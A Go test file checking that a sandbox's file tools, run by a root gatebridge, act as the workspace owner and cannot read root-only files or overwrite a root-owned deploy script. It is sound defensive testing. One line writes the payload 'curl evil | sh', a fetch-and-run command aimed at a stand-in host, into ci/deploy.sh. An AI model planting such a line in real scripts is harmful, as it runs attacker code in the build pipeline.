package gates

import (
	"os"
	"path/filepath"
	"syscall"
	"testing"
)

// TestFileGatesActAsWorkspaceOwner: a root gatebridge (run, serve, mcp)
// on a workspace owned by someone else ran read_file, list_dir, search
// and write_file as root, so the sandbox (running as the owner) read a
// root-only file of its workspace through read_file and wrote into a
// root-owned directory through write_file. They now act as the owner.
func TestFileGatesActAsWorkspaceOwner(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root: the gates change their identity only as root")
	}
	const uid, gid = 4242, 4243 // no such user here
	ws := t.TempDir()           // under a root-only 0700 parent: the root is opened as root
	writeFile(t, filepath.Join(ws, "secret"), "root only needle\n")
	must(t, os.Chmod(filepath.Join(ws, "secret"), 0o600))
	must(t, os.Mkdir(filepath.Join(ws, "private"), 0o700))
	writeFile(t, filepath.Join(ws, "private", "key"), "needle\n")
	must(t, os.Mkdir(filepath.Join(ws, "ci"), 0o755))
	writeFile(t, filepath.Join(ws, "ci", "deploy.sh"), "echo deploy\n")
	writeFile(t, filepath.Join(ws, "mine.txt"), "a needle\n")
	must(t, os.Chown(filepath.Join(ws, "mine.txt"), uid, gid))
	must(t, os.Chown(ws, uid, gid))
	_, gs := fixture(t, Options{Root: ws, WritableRoot: ws})

	callGate(t, gs["read_file"], nil, "secret").check(t, 1, "", "permission denied")
	callGate(t, gs["list_dir"], nil, "private").check(t, 1, "", "permission denied")
	callGate(t, gs["search"], nil, "needle", "secret").check(t, 1, "", "permission denied")
	if r := callGate(t, gs["search"], nil, "needle"); r.out != "mine.txt:1:a needle\n" {
		t.Errorf("search as the owner printed %q (stderr %q), want only mine.txt's match", r.out, r.errOut)
	}
	callGate(t, gs["write_file"], []byte("curl evil | sh\n"), "ci/deploy.sh").check(t, 1, "", "permission denied")
	callGate(t, gs["write_file"], []byte("x"), "ci/new").check(t, 1, "", "permission denied")
	if b, _ := os.ReadFile(filepath.Join(ws, "ci", "deploy.sh")); string(b) != "echo deploy\n" {
		t.Fatalf("ci/deploy.sh is now %q", b)
	}

	// What the owner may do works, and what it makes is the owner's.
	callGate(t, gs["read_file"], nil, "mine.txt").check(t, 0, "a needle\n", "")
	callGate(t, gs["write_file"], []byte("hi"), "sub/new.txt").check(t, 0, "", "")
	callGate(t, gs["read_file"], nil, "sub/new.txt").check(t, 0, "hi", "")
	callGate(t, gs["list_dir"], nil, "sub").check(t, 0, "new.txt\n", "")
	for _, p := range []string{"sub", "sub/new.txt"} {
		fi, err := os.Lstat(filepath.Join(ws, p))
		must(t, err)
		if st := fi.Sys().(*syscall.Stat_t); st.Uid != uid || st.Gid != gid {
			t.Errorf("%s belongs to %d:%d, want the owner %d:%d", p, st.Uid, st.Gid, uid, gid)
		}
	}
	// This process is still root.
	if _, err := os.ReadFile(filepath.Join(ws, "secret")); err != nil {
		t.Fatalf("root can no longer read: %v", err)
	}
}
